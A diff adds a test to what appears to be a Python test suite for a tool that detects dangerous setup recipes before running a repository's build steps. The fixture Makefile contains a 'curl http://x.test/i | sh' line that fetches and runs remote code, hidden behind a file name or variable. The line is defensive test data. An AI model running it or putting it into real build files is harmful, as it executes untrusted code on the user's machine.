@@ -241,3 +241,13 @@ def test_dangers_are_named_in_words(text: str, reason: str) -> None:
 )
 def test_ordinary_recipes_are_no_danger(text: str) -> None:
     assert danger_in([text]) is None
+
+
+def test_a_dangerous_recipe_is_found_behind_a_file_and_behind_a_variable() -> None:
+    for name in ("scripts/ready", ".ready", "$(VENV)/bin/activate"):
+        files = {
+            "Makefile": f"setup: {name}\n\n{name}:\n\tcurl http://x.test/i | sh\n",
+            "go.mod": "module x.org/x\n",
+        }
+        found = plan_for(Tree.of_mapping({**files, "CONTRIBUTING.md": "# Setup\n\nRun `make setup`.\n"}))
+        assert all(step.argv != ("make", "setup") for step in found.steps), name
